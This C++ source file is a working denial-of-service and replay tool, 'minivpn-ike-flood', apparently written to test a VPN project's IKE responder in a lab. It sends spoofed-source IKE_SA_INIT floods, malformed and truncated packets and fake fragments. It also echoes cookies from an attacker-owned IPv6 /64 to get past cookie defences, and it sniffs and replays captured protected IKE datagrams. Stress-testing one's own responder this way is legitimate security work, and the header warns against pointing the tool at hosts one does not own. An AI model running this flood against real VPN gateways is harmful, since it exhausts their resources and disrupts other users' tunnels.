// minivpn-ike-flood: the attacker of the lab's flood scenario (issue 18). It sends IKE datagrams
// to a responder at a fixed rate from spoofed sources (raw sockets with the IP header included:
// IP_HDRINCL, IPV6_HDRINCL), cycling through what an internet attacker can send without knowing
// a PSK, one kind per slot in turn (so each kind gets the same share of --rate; init6 and
// zero-ke6 take turns in one slot):
//   init       IKE_SA_INIT with a valid X25519 public value from a random IPv4 source in
//              --sources (costs the responder a key pair and, below the cookie threshold, a
//              half-open SA)
//   zero-ke    IKE_SA_INIT with the all-zero X25519 value (RFC 7748 6.1: fails after key gen)
//   garbage    random octets
//   truncated  a valid IKE_SA_INIT cut short
//   fragment   an IKE_AUTH SKF "fragment 1 of 3" with random SPIs and a random body
//   replay     one IKE_SA_INIT sent again and again from one source
// With --target6 (IPv6 to the responder's IPv6 address, sources random inside --sources6, one
// /64 by default: RFC 7296 2.6 makes it ONE source for the per-source thresholds):
//   init6      IKE_SA_INIT with a valid X25519 value
//   zero-ke6   IKE_SA_INIT with the all-zero X25519 value
//   The attacker owns that /64, so it sees the answers (a packet socket, ETH_P_IPV6, on every
//   interface): it counts them (with SA, with COOKIE, other) and sends an init6 request again
//   with the COOKIE it got (at most twice per SPI), from the same address, as a real initiator
//   would. Without that a COOKIE would be the end of it; with it, the /64 runs into the
//   per-source block (block_threshold half-open SAs) of a responder that counts it as one, and
//   costs one that counts per address (/128) a half-open SA per echo. (zero-ke6 COOKIEs are not
//   echoed, and init6/zero-ke6 share one slot: with both echoed, each in a slot of its own,
//   charon as the lab's responder got so busy that a fresh initiator's IKE_AUTH waited 14 s.)
// With --capture IFACE (a packet socket on IFACE, where the attacker sits on the path of a real
// tunnel, e.g. the lab's "inet" router):
//   captured   a protected IKE datagram (IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL; UDP 500, or
//              4500 with the non-ESP marker) that arrived on IFACE addressed to --target, sent
//              again from its original source address and port; each slot picks one of the
//              distinct datagrams captured so far (at most 256, the oldest replaced). A slot with
//              nothing captured yet sends nothing ("idle").
//
//   minivpn-ike-flood --target 198.51.100.1 [--port 500] [--rate 1000] [--duration 60]
//                     [--sources 100.64.0.0/10] [--seed 1]
//                     [--target6 2001:db8:b::1 [--sources6 2001:db8:f100::/64]]
//                     [--capture IFACE]
// At the end: with --target6 an "ipv6:" line (answers seen, cookies echoed, answers with SA per
// 10 s of the flood), with --capture a "capture:" line (datagrams captured, by exchange, how
// often replayed), and last one line of counts per kind. Needs CAP_NET_RAW. A lab tool: never
// point it at a host you do not own.
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <deque>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <unordered_map>
#include <vector>

#include "crypto/key_exchange.h"
#include "ike/engine/engine_payloads.h"
#include "ike/engine/negotiation.h"
#include "ike/wire/codec.h"
#include "ike/wire/message.h"

namespace {

using namespace minivpn;
using namespace minivpn::ike;
using Clock = std::chrono::steady_clock;

struct Options {
  std::string target;
  std::uint16_t port = 500;
  double rate = 1000;
  double duration = 60;
  std::uint32_t source_net = 0x64400000;  // 100.64.0.0
  int source_prefix = 10;
  std::uint64_t seed = 1;
  std::string target6;
  in6_addr source6_net{};  // 2001:db8:f100::
  int source6_prefix = 64;
  std::string capture;
};

[[noreturn]] void Usage(const char* why) {
  std::fprintf(stderr,
               "minivpn-ike-flood: %s\nusage: minivpn-ike-flood --target IPV4 [--port 500] "
               "[--rate 1000] [--duration 60] [--sources 100.64.0.0/10] [--seed 1]\n"
               "       [--target6 IPV6 [--sources6 2001:db8:f100::/64]] [--capture IFACE]\n",
               why);
  std::exit(2);
}

Options Parse(int argc, char** argv) {
  Options o;
  inet_pton(AF_INET6, "2001:db8:f100::", &o.source6_net);
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    if (i + 1 >= argc) Usage(("missing value for " + a).c_str());
    const std::string v = argv[++i];
    if (a == "--target") {
      o.target = v;
    } else if (a == "--port") {
      o.port = static_cast<std::uint16_t>(std::stoi(v));
    } else if (a == "--rate") {
      o.rate = std::stod(v);
    } else if (a == "--duration") {
      o.duration = std::stod(v);
    } else if (a == "--seed") {
      o.seed = std::stoull(v);
    } else if (a == "--sources") {
      const auto slash = v.find('/');
      in_addr net{};
      if (slash == std::string::npos || inet_pton(AF_INET, v.substr(0, slash).c_str(), &net) != 1)
        Usage("--sources needs A.B.C.D/N");
      o.source_net = ntohl(net.s_addr);
      o.source_prefix = std::stoi(v.substr(slash + 1));
    } else if (a == "--target6") {
      o.target6 = v;
    } else if (a == "--sources6") {
      const auto slash = v.find('/');
      if (slash == std::string::npos ||
          inet_pton(AF_INET6, v.substr(0, slash).c_str(), &o.source6_net) != 1)
        Usage("--sources6 needs an IPv6 PREFIX/N (e.g. 2001:db8:f100::/64)");
      o.source6_prefix = std::stoi(v.substr(slash + 1));
      if (o.source6_prefix < 0 || o.source6_prefix > 128) Usage("--sources6: N must be 0..128");
    } else if (a == "--capture") {
      o.capture = v;
    } else {
      Usage(("unknown option " + a).c_str());
    }
  }
  if (o.target.empty()) Usage("--target is required");
  return o;
}

Message Init(std::uint64_t spi, const Bytes& nonce, const Bytes& ke) {
  Message m;
  m.header = Header{.spi_i = spi, .exchange = ExchangeType::kIkeSaInit, .flags = kFlagInitiator};
  const IkeProposal proposal{.encr = {{crypto::EncrId::kAesGcm16, 256}},
                             .integ = {},
                             .prf = {crypto::PrfId::kHmacSha2_256},
                             .dh = {crypto::DhGroup::kCurve25519}};
  m.payloads.push_back(MakePayload(PayloadType::kSa, OfferIke({proposal}, {})));
  m.payloads.push_back(
      MakePayload(PayloadType::kKe, KePayload{.group = crypto::DhGroup::kCurve25519, .data = ke}));
  m.payloads.push_back(MakePayload(PayloadType::kNonce, NoncePayload{.data = nonce}));
  return m;
}

std::uint16_t Checksum(const std::uint8_t* data, std::size_t size) {
  std::uint32_t sum = 0;
  for (std::size_t i = 0; i + 1 < size; i += 2) sum += (data[i] << 8) | data[i + 1];
  if (size % 2) sum += data[size - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// IPv4 + UDP (checksum 0: optional over IPv4) + payload, addresses in network order.
Bytes Udp4Packet(std::uint32_t src, std::uint32_t dst, std::uint16_t sport, std::uint16_t dport,
                 const Bytes& payload) {
  Bytes packet(sizeof(iphdr) + sizeof(udphdr) + payload.size());
  auto* ip = reinterpret_cast<iphdr*>(packet.data());
  ip->version = 4;
  ip->ihl = 5;
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->tot_len = htons(static_cast<std::uint16_t>(packet.size()));
  ip->saddr = src;
  ip->daddr = dst;
  ip->check = htons(Checksum(packet.data(), sizeof(iphdr)));
  auto* udp = reinterpret_cast<udphdr*>(packet.data() + sizeof(iphdr));
  udp->source = htons(sport);
  udp->dest = htons(dport);
  udp->len = htons(static_cast<std::uint16_t>(sizeof(udphdr) + payload.size()));
  udp->check = 0;
  std::memcpy(packet.data() + sizeof(iphdr) + sizeof(udphdr), payload.data(), payload.size());
  return packet;
}

// IPv6 + UDP + payload. The UDP checksum is mandatory over IPv6 (RFC 8200 8.1): over the
// pseudo-header (source, destination, upper-layer length, next header 17) and the datagram.
Bytes Udp6Packet(const in6_addr& src, const in6_addr& dst, std::uint16_t sport,
                 std::uint16_t dport, const Bytes& payload) {
  const std::size_t udp_len = sizeof(udphdr) + payload.size();
  Bytes packet(sizeof(ip6_hdr) + udp_len);
  auto* ip = reinterpret_cast<ip6_hdr*>(packet.data());
  ip->ip6_flow = htonl(6u << 28);
  ip->ip6_plen = htons(static_cast<std::uint16_t>(udp_len));
  ip->ip6_nxt = IPPROTO_UDP;
  ip->ip6_hlim = 64;
  ip->ip6_src = src;
  ip->ip6_dst = dst;
  std::uint8_t* udp_bytes = packet.data() + sizeof(ip6_hdr);
  auto* udp = reinterpret_cast<udphdr*>(udp_bytes);
  udp->source = htons(sport);
  udp->dest = htons(dport);
  udp->len = htons(static_cast<std::uint16_t>(udp_len));
  udp->check = 0;
  std::memcpy(udp_bytes + sizeof(udphdr), payload.data(), payload.size());
  Bytes pseudo(40 + udp_len);
  std::memcpy(pseudo.data(), &src, 16);
  std::memcpy(pseudo.data() + 16, &dst, 16);
  pseudo[32] = static_cast<std::uint8_t>(udp_len >> 24);
  pseudo[33] = static_cast<std::uint8_t>(udp_len >> 16);
  pseudo[34] = static_cast<std::uint8_t>(udp_len >> 8);
  pseudo[35] = static_cast<std::uint8_t>(udp_len);
  pseudo[39] = IPPROTO_UDP;
  std::memcpy(pseudo.data() + 40, udp_bytes, udp_len);
  const std::uint16_t sum = Checksum(pseudo.data(), pseudo.size());
  udp->check = htons(sum == 0 ? 0xffff : sum);
  return packet;
}

// The first `prefix` bits of `net`, the rest from `random` (or compared: InPrefix).
in6_addr InsidePrefix(const in6_addr& net, int prefix, std::uint64_t r1, std::uint64_t r2) {
  in6_addr a{};
  for (int i = 0; i < 16; ++i) {
    const int fixed = std::clamp(prefix - 8 * i, 0, 8);
    const auto keep = static_cast<std::uint8_t>(fixed == 0 ? 0 : 0xff << (8 - fixed));
    const auto random = static_cast<std::uint8_t>((i < 8 ? r1 : r2) >> (8 * (i % 8)));
    a.s6_addr[i] = static_cast<std::uint8_t>((net.s6_addr[i] & keep) | (random & ~keep));
  }
  return a;
}

bool InPrefix(const in6_addr& a, const in6_addr& net, int prefix) {
  for (int i = 0; i < 16; ++i) {
    const int fixed = std::clamp(prefix - 8 * i, 0, 8);
    const auto keep = static_cast<std::uint8_t>(fixed == 0 ? 0 : 0xff << (8 - fixed));
    if ((a.s6_addr[i] & keep) != (net.s6_addr[i] & keep)) return false;
  }
  return true;
}

int PacketSocket(std::uint16_t ethertype, const std::string& iface) {
  const int fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ethertype));
  if (fd < 0) return -1;
  sockaddr_ll ll{};
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ethertype);
  ll.sll_ifindex = iface.empty() ? 0 : static_cast<int>(if_nametoindex(iface.c_str()));
  if (!iface.empty() && ll.sll_ifindex == 0) {
    ::close(fd);
    errno = ENODEV;
    return -1;
  }
  if (::bind(fd, reinterpret_cast<sockaddr*>(&ll), sizeof ll) < 0) {
    ::close(fd);
    return -1;
  }
  const int buffer = 1 << 20;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof buffer);
  return fd;
}

// An IKE_SA_INIT request sent over IPv6, kept so that a COOKIE for it can be echoed.
struct Pending6 {
  in6_addr source{};
  Bytes nonce;
  bool zero_ke = false;
  int echoes = 0;
};

// A protected IKE datagram captured on its way to the target.
struct Captured {
  std::uint32_t source = 0;  // network order
  std::uint16_t sport = 0, dport = 0;
  Bytes udp_payload;  // with the non-ESP marker on 4500
};

const char* ExchangeName(std::uint8_t e) {
  switch (e) {
    case 35: return "IKE_AUTH";
    case 36: return "CREATE_CHILD_SA";
    case 37: return "INFORMATIONAL";
    default: return "other";
  }
}

}  // namespace

int main(int argc, char** argv) {
  const Options o = Parse(argc, argv);
  in_addr target{};
  if (inet_pton(AF_INET, o.target.c_str(), &target) != 1) Usage("--target needs an IPv4 address");
  in6_addr target6{};
  const bool v6 = !o.target6.empty();
  if (v6 && inet_pton(AF_INET6, o.target6.c_str(), &target6) != 1)
    Usage("--target6 needs an IPv6 address");
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);  // IP_HDRINCL implied
  if (fd < 0) {
    std::perror("minivpn-ike-flood: raw socket (needs CAP_NET_RAW)");
    return 1;
  }
  int fd6 = -1, rx6 = -1, cap = -1;
  if (v6) {
    fd6 = ::socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);  // IPV6_HDRINCL implied
    rx6 = PacketSocket(ETH_P_IPV6, "");
    if (fd6 < 0 || rx6 < 0) {
      std::perror("minivpn-ike-flood: IPv6 raw or packet socket");
      return 1;
    }
  }
  if (!o.capture.empty()) {
    cap = PacketSocket(ETH_P_IP, o.capture);
    if (cap < 0) {
      std::fprintf(stderr, "minivpn-ike-flood: packet socket on %s: %s\n", o.capture.c_str(),
                   std::strerror(errno));
      return 1;
    }
  }
  std::mt19937_64 rng(o.seed);
  auto random_bytes = [&](std::size_t n) {
    Bytes b(n);
    for (auto& x : b) x = static_cast<std::uint8_t>(rng());
    return b;
  };
  auto ke = crypto::KeyExchange::Generate(crypto::DhGroup::kCurve25519);
  if (!ke) return 1;
  const Bytes valid_ke = (*ke)->public_value();
  const Bytes zero_ke(32, 0);
  const Bytes replayed = Encode(Init(rng() | 1, random_bytes(32), valid_ke));
  const std::uint32_t replay_source = o.source_net | 1;
  const std::uint32_t host_mask =
      o.source_prefix >= 32 ? 0 : (0xffffffffu >> o.source_prefix);

  enum Kind {
    kInit,
    kZeroKe,
    kGarbage,
    kTruncated,
    kFragment,
    kReplay,
    kInit6,
    kZeroKe6,
    kCaptured,
    kKinds
  };
  const char* names[kKinds] = {"init",    "zero-ke", "garbage",  "truncated", "fragment",
                               "replay",  "init6",   "zero-ke6", "captured"};
  std::vector<Kind> schedule = {kInit, kZeroKe, kGarbage, kTruncated, kFragment, kReplay};
  if (v6) schedule.push_back(kInit6);  // every other round kZeroKe6
  if (cap >= 0) schedule.push_back(kCaptured);
  std::array<std::uint64_t, kKinds> sent{};
  std::uint64_t errors = 0;

  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = target;
  sockaddr_in6 to6{};
  to6.sin6_family = AF_INET6;
  to6.sin6_addr = target6;
  auto send4 = [&](const Bytes& packet) {
    return ::sendto(fd, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to),
                    sizeof to) >= 0;
  };
  auto send6 = [&](const Bytes& packet) {
    return ::sendto(fd6, packet.data(), packet.size(), 0, reinterpret_cast<sockaddr*>(&to6),
                    sizeof to6) >= 0;
  };

  const auto start = Clock::now();
  const auto seconds_since_start = [&] {
    return std::chrono::duration<double>(Clock::now() - start).count();
  };

  // IPv6: requests awaiting an answer, and what came back.
  std::unordered_map<std::uint64_t, Pending6> pending6;
  std::uint64_t answers_sa6 = 0, answers_cookie6 = 0, answers_other6 = 0, echoes6 = 0;
  std::vector<std::uint64_t> sa6_per_10s(static_cast<std::size_t>(o.duration / 10) + 1, 0);
  bool echo = true;  // false after the flood: answers are still counted, nothing more is sent
  auto send_init6 = [&](std::uint64_t spi, const Pending6& p, const Bytes* cookie) {
    Message m = Init(spi, p.nonce, p.zero_ke ? zero_ke : valid_ke);
    if (cookie) m.payloads.insert(m.payloads.begin(), MakeNotify(NotifyType::kCookie, *cookie));
    return send6(Udp6Packet(p.source, target6, 500, o.port, Encode(m)));
  };
  auto on_ipv6 = [&](const std::uint8_t* p, std::size_t size) {
    if (size < sizeof(ip6_hdr) + sizeof(udphdr)) return;
    const auto* ip = reinterpret_cast<const ip6_hdr*>(p);
    if ((p[0] >> 4) != 6 || ip->ip6_nxt != IPPROTO_UDP) return;
    if (std::memcmp(&ip->ip6_src, &target6, 16) != 0 ||
        !InPrefix(ip->ip6_dst, o.source6_net, o.source6_prefix))
      return;
    const auto* udp = reinterpret_cast<const udphdr*>(p + sizeof(ip6_hdr));
    const std::size_t udp_len = ntohs(udp->len);
    if (ntohs(udp->source) != o.port || udp_len < sizeof(udphdr) ||
        sizeof(ip6_hdr) + udp_len > size)
      return;
    auto m = Decode(ByteView(p + sizeof(ip6_hdr) + sizeof(udphdr), udp_len - sizeof(udphdr)));
    if (!m || !m->header.is_response() || m->header.exchange != ExchangeType::kIkeSaInit) {
      ++answers_other6;
      return;
    }
    const auto* first =
        m->payloads.empty() ? nullptr : std::get_if<NotifyPayload>(&m->payloads[0].body);
    if (first && first->type == NotifyType::kCookie) {
      ++answers_cookie6;
      auto it = pending6.find(m->header.spi_i);
      if (echo && it != pending6.end() && !it->second.zero_ke && it->second.echoes < 2) {
        ++it->second.echoes;
        if (send_init6(m->header.spi_i, it->second, &first->data)) ++echoes6;
        else ++errors;
      }
    } else if (FindPayload(m->payloads, PayloadType::kSa)) {
      ++answers_sa6;
      const auto bucket = static_cast<std::size_t>(seconds_since_start() / 10);
      ++sa6_per_10s[std::min(bucket, sa6_per_10s.size() - 1)];
    } else {
      ++answers_other6;
    }
  };

  // Capture: distinct protected IKE datagrams to the target, in arrival order.
  std::deque<Captured> captured;
  std::set<Bytes> captured_keys;
  std::uint64_t captured_seen = 0, captured_idle = 0;
  std::array<std::uint64_t, 4> captured_requests{}, captured_responses{};  // by exchange - 34
  auto on_ipv4 = [&](const std::uint8_t* p, std::size_t size) {
    if (size < sizeof(iphdr)) return;
    const auto* ip = reinterpret_cast<const iphdr*>(p);
    const std::size_t ihl = ip->ihl * 4u;
    if (ip->version != 4 || ip->protocol != IPPROTO_UDP || ip->daddr != target.s_addr ||
        (ntohs(ip->frag_off) & 0x3fff) != 0 || size < ihl + sizeof(udphdr))
      return;
    const auto* udp = reinterpret_cast<const udphdr*>(p + ihl);
    const std::size_t udp_len = ntohs(udp->len);
    const std::uint16_t dport = ntohs(udp->dest);
    if ((dport != 500 && dport != 4500) || udp_len < sizeof(udphdr) || ihl + udp_len > size)
      return;
    Captured c{.source = ip->saddr,
               .sport = ntohs(udp->source),
               .dport = dport,
               .udp_payload = Bytes(p + ihl + sizeof(udphdr), p + ihl + udp_len)};
    std::size_t ike = 0;
    if (dport == 4500) {  // 3.1 of RFC 3948: IKE after four zero octets, ESP otherwise
      if (c.udp_payload.size() < 4 || c.udp_payload[0] || c.udp_payload[1] ||
          c.udp_payload[2] || c.udp_payload[3])
        return;
      ike = 4;
    }
    if (c.udp_payload.size() < ike + 28) return;
    const std::uint8_t exchange = c.udp_payload[ike + 18];
    if (exchange < 35 || exchange > 37) return;  // protected exchanges only
    ++captured_seen;
    Bytes key(c.udp_payload);
    const auto* s = reinterpret_cast<const std::uint8_t*>(&c.source);
    key.insert(key.end(), s, s + 4);
    key.insert(key.end(), {static_cast<std::uint8_t>(c.sport >> 8),
                           static_cast<std::uint8_t>(c.sport), static_cast<std::uint8_t>(dport)});
    if (!captured_keys.insert(key).second) return;  // a retransmission or a copy seen before
    (c.udp_payload[ike + 19] & 0x20 ? captured_responses : captured_requests)[exchange - 34]++;
    captured.push_back(std::move(c));
    if (captured.size() > 256) captured.pop_front();
  };

  std::vector<pollfd> fds;
  if (rx6 >= 0) fds.push_back({rx6, POLLIN, 0});
  if (cap >= 0) fds.push_back({cap, POLLIN, 0});
  std::vector<std::uint8_t> buffer(65536);
  auto drain = [&] {
    for (const auto& f : fds) {
      for (;;) {
        sockaddr_ll from{};
        socklen_t from_len = sizeof from;
        const ssize_t got = ::recvfrom(f.fd, buffer.data(), buffer.size(), 0,
                                       reinterpret_cast<sockaddr*>(&from), &from_len);
        if (got < 0) break;
        if (from.sll_pkttype == PACKET_OUTGOING) continue;  // our own and forwarded packets
        if (f.fd == rx6) on_ipv6(buffer.data(), static_cast<std::size_t>(got));
        else on_ipv4(buffer.data(), static_cast<std::size_t>(got));
      }
    }
  };
  // Until `due`, answers and captures are read as they come.
  auto wait_until = [&](Clock::time_point due) {
    for (;;) {
      drain();
      const auto now = Clock::now();
      if (now >= due) return;
      if (fds.empty()) {
        std::this_thread::sleep_until(due);
        return;
      }
      const auto left = std::chrono::duration_cast<std::chrono::nanoseconds>(due - now).count();
      const timespec ts{.tv_sec = static_cast<time_t>(left / 1000000000),
                        .tv_nsec = static_cast<long>(left % 1000000000)};
      ::ppoll(fds.data(), fds.size(), &ts, nullptr);
    }
  };

  const auto period = std::chrono::duration<double>(1.0 / o.rate);
  std::uint64_t n = 0;
  for (;; ++n) {
    const auto due = start + std::chrono::duration_cast<Clock::duration>(
                                 period * static_cast<double>(n));
    if (due - start > std::chrono::duration<double>(o.duration)) break;
    wait_until(due);
    auto kind = schedule[n % schedule.size()];
    if (kind == kInit6 && (n / schedule.size()) % 2) kind = kZeroKe6;
    Bytes ike;
    std::uint32_t source = o.source_net | (static_cast<std::uint32_t>(rng()) & host_mask);
    bool ok = true;
    switch (kind) {
      case kInit: ike = Encode(Init(rng() | 1, random_bytes(32), valid_ke)); break;
      case kZeroKe: ike = Encode(Init(rng() | 1, random_bytes(32), zero_ke)); break;
      case kGarbage: ike = random_bytes(28 + rng() % 1200); break;
      case kTruncated: {
        ike = Encode(Init(rng() | 1, random_bytes(32), valid_ke));
        ike.resize(1 + rng() % (ike.size() - 1));
        break;
      }
      case kFragment: {
        Message m;
        m.header = Header{.spi_i = rng() | 1,
                          .spi_r = rng() | 1,
                          .exchange = ExchangeType::kIkeAuth,
                          .flags = kFlagInitiator,
                          .message_id = 1};
        m.payloads.push_back(MakePayload(
            PayloadType::kSkf, SkfPayload{.first_inner = PayloadType::kIdi,
                                          .fragment_number = 1,
                                          .total_fragments = 3,
                                          .body = random_bytes(200 + rng() % 900)}));
        ike = Encode(m);
        break;
      }
      case kReplay:
        ike = replayed;
        source = replay_source;
        break;
      case kInit6:
      case kZeroKe6: {
        const std::uint64_t spi = rng() | 1;
        const std::uint64_t r1 = rng(), r2 = rng();
        Pending6 p{.source = InsidePrefix(o.source6_net, o.source6_prefix, r1, r2),
                   .nonce = random_bytes(32),
                   .zero_ke = kind == kZeroKe6};
        ok = send_init6(spi, p, nullptr);
        pending6.emplace(spi, std::move(p));
        break;
      }
      case kCaptured: {
        if (captured.empty()) {
          ++captured_idle;
          continue;
        }
        const Captured& c = captured[rng() % captured.size()];
        ok = send4(Udp4Packet(c.source, target.s_addr, c.sport, c.dport, c.udp_payload));
        break;
      }
      case kKinds: break;
    }
    if (kind != kInit6 && kind != kZeroKe6 && kind != kCaptured)
      ok = send4(Udp4Packet(htonl(source), target.s_addr, 500, o.port, ike));
    if (ok) ++sent[kind];
    else ++errors;
  }
  const double took = seconds_since_start();
  // Answers to the last requests are still on their way: count them, send nothing more.
  echo = false;
  wait_until(Clock::now() + std::chrono::milliseconds(500));

  if (v6) {
    char net[INET6_ADDRSTRLEN] = "";
    inet_ntop(AF_INET6, &o.source6_net, net, sizeof net);
    std::printf("ipv6: %llu IKE_SA_INIT requests from %s/%d to %s (%llu with the COOKIE "
                "echoed), answers seen: with SA %llu, with COOKIE %llu, other %llu; with SA "
                "per 10 s:",
                static_cast<unsigned long long>(sent[kInit6] + sent[kZeroKe6] + echoes6), net,
                o.source6_prefix, o.target6.c_str(), static_cast<unsigned long long>(echoes6),
                static_cast<unsigned long long>(answers_sa6),
                static_cast<unsigned long long>(answers_cookie6),
                static_cast<unsigned long long>(answers_other6));
    for (auto c : sa6_per_10s) std::printf(" %llu", static_cast<unsigned long long>(c));
    std::printf("\n");
  }
  if (cap >= 0) {
    std::printf("capture: %zu distinct protected IKE datagrams to %s captured on %s (%llu "
                "with copies):",
                captured_keys.size(), o.target.c_str(), o.capture.c_str(),
                static_cast<unsigned long long>(captured_seen));
    for (std::uint8_t e = 35; e <= 37; ++e) {
      std::printf(" %s %llu requests %llu responses%s", ExchangeName(e),
                  static_cast<unsigned long long>(captured_requests[e - 34]),
                  static_cast<unsigned long long>(captured_responses[e - 34]),
                  e < 37 ? "," : ";");
    }
    std::printf(" replayed %llu times, %llu slots idle before the first capture\n",
                static_cast<unsigned long long>(sent[kCaptured]),
                static_cast<unsigned long long>(captured_idle));
  }
  std::printf("flood: %llu datagrams in %.1f s (%.0f/s):", static_cast<unsigned long long>(n),
              took, static_cast<double>(n) / took);
  for (Kind k : schedule) {
    std::printf(" %s %llu", names[k], static_cast<unsigned long long>(sent[k]));
    if (k == kInit6)
      std::printf(" %s %llu", names[kZeroKe6], static_cast<unsigned long long>(sent[kZeroKe6]));
  }
  if (v6) std::printf(" cookie-echo6 %llu", static_cast<unsigned long long>(echoes6));
  std::printf(", send errors %llu\n", static_cast<unsigned long long>(errors));
  for (int f : {fd, fd6, rx6, cap})
    if (f >= 0) ::close(f);
  return 0;
}
